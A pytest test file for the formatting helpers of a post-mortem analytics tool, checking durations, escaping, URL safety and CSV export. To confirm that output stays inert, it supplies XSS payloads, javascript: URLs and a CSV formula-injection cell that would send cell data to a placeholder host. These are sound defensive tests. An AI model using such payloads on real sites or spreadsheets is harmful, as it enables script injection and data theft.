"""Times read as "1 h 05 min", unknown reads "unknown", and post-mortem text stays inert."""

import math
from datetime import date

import pandas as pd
import pytest

from pm_analytics.formatting import (
    escape_html,
    escape_markdown,
    format_count,
    format_minutes,
    format_minutes_tick,
    format_percent,
    incident_href,
    safe_url,
)


@pytest.mark.parametrize("minutes, text", [
    (0, "0 min"), (0.5, "< 1 min"), (25, "25 min"), (59.6, "1 h 00 min"), (65, "1 h 05 min"), (600, "10 h 00 min"),
    (1440, "1 d"), (3060, "2 d 3 h"), (None, "unknown"), (math.nan, "unknown"),
])
def test_format_minutes(minutes, text):
    assert format_minutes(minutes) == text


@pytest.mark.parametrize("minutes, text", [(0, "0"), (30, "30 min"), (120, "2 h"), (90, "1 h 30 min"), (2880, "2 d")])
def test_axis_ticks(minutes, text):
    assert format_minutes_tick(minutes) == text


def test_a_completion_day_is_unknown_only_when_the_item_is_done():
    from datetime import date

    from pm_analytics.formatting import format_completed

    assert format_completed("done", date(2026, 2, 3)) == "2026-02-03"
    assert format_completed("done", None) == "unknown"
    assert format_completed("open", None) == format_completed("wontfix", None) == "—"


def test_counts_and_percents():
    assert (format_count(1480), format_count(None), format_count(0)) == ("1,480", "unknown", "0")
    assert (format_percent(0.834), format_percent(math.nan)) == ("83%", "unknown")


@pytest.mark.parametrize("text", [
    "<script>alert(1)</script>", "[click](javascript:alert(1))", "![x](data:image/png;base64,AAAA)",
    "<img src=x onerror=alert(1)>", "# heading", "**bold** _it_", "$x^2$", "http://a.example/<b>",
])
def test_escaped_markdown_has_no_active_syntax(text):
    escaped = escape_markdown(text)
    unescaped_special = [c for i, c in enumerate(escaped) if c in "[]()<>#*_!$" and (i == 0 or escaped[i - 1] != "\\")]
    assert unescaped_special == []


def test_escape_html():
    assert escape_html('<img src=x onerror="alert(1)">') == "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;"
    assert escape_html(None) == ""


@pytest.mark.parametrize("url, ok", [
    ("https://docs.example.com/inc-1", True), ("http://jira.example.com/PAY-1", True), ("javascript:alert(1)", False),
    ("data:text/html,<script>", False), ("JAVASCRIPT:alert(1)", False), ("//evil.example.com", False),
    ("https://a.example.com/x\"onmouseover=1", False), ("ftp://files.example.com", False), (None, False),
])
def test_safe_url(url, ok):
    assert safe_url(url) == (url if ok else None)


def test_incident_href_keeps_filters_and_quotes_the_id():
    assert incident_href("INC-1", {"sev": "SEV1,SEV2"}) == "incident?id=INC-1&sev=SEV1,SEV2"
    assert incident_href("a b&c") == "incident?id=a%20b%26c"


def test_csv_cells_that_start_like_a_formula_are_made_inert_and_numbers_stay_numbers():
    import csv
    import io

    import pandas as pd

    from pm_analytics.formatting import safe_csv

    frame = pd.DataFrame({"title": ['=HYPERLINK("http://x/?"&A1,"open")', "+1", "-x", "@SUM(A1)", "\tpad", "\rcr",
                                    "plain", None],
                          "minutes": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, None],
                          "count": pd.array([-1, 2, 3, 4, 5, 6, 7, None], dtype="Int64")})
    rows = list(csv.DictReader(io.StringIO(safe_csv(frame).decode(), newline="")))
    assert [r["title"] for r in rows] == ['\'=HYPERLINK("http://x/?"&A1,"open")', "'+1", "'-x", "'@SUM(A1)",
                                          "'\tpad", "'\rcr", "plain", ""]
    assert [r["minutes"] for r in rows][:2] == ["-5.0", "1.0"] and rows[0]["count"] == "-1"


def test_chase_text_is_ready_to_paste_grouped_by_team_then_owner():
    import pandas as pd

    from pm_analytics.formatting import chase_text

    items = pd.DataFrame([
        {"priority": "P0", "owner": "Ann", "teams": "Payments", "days_overdue": 12, "ticket": "PAY-1",
         "ticket_url": "https://tracker.example/PAY-1", "incident_id": "INC-1", "title": "Checkout down",
         "action_id": "AI1", "description": "Alert on card errors"},
        {"priority": "P1", "owner": None, "teams": None, "days_overdue": 3, "ticket": None,
         "ticket_url": "javascript:alert(1)", "incident_id": "INC-2", "title": "Search slow",
         "action_id": "AI2", "description": "Add an index"},
    ])
    assert chase_text(items, date(2026, 11, 26), ("P0", "P1")) == (
        "Overdue P0/P1 action items as of 2026-11-26: 2\n"
        "\n"
        "Payments\n"
        "  Ann\n"
        "    - P0 AI1: Alert on card errors | 12 days overdue | PAY-1 https://tracker.example/PAY-1 | INC-1 Checkout down\n"
        "\n"
        "(no team)\n"
        "  (no owner)\n"
        "    - P1 AI2: Add an index | 3 days overdue | no ticket | INC-2 Search slow")
    assert chase_text(items.iloc[:0], date(2026, 11, 26), ("P0",)) == "No overdue P0 action items as of 2026-11-26."


def test_minutes_as_durations_round_as_format_minutes_does_and_keep_unknown():
    from pm_analytics.formatting import minutes_as_durations

    got = minutes_as_durations(pd.Series([62.4, 62.5, 1082.0, 0.4, 0.0, None, float("nan")], dtype=object)).tolist()
    assert got[:5] == [pd.Timedelta(minutes=62), pd.Timedelta(minutes=62), pd.Timedelta(hours=18, minutes=2),
                       pd.Timedelta(seconds=24), pd.Timedelta(0)]
    assert [format_minutes(m) for m in (62.4, 62.5)] == ["1 h 02 min", "1 h 02 min"]
    assert pd.isna(got[5]) and pd.isna(got[6])


def test_percents_round_as_format_percent_does():
    from pm_analytics.formatting import percents

    rates = [0.125, 0.835, 0.995, None]
    got = percents(pd.Series(rates, dtype=object)).tolist()
    assert [f"{v:.0f}%" for v in got[:3]] == [format_percent(r) for r in rates[:3]]
    assert pd.isna(got[3])
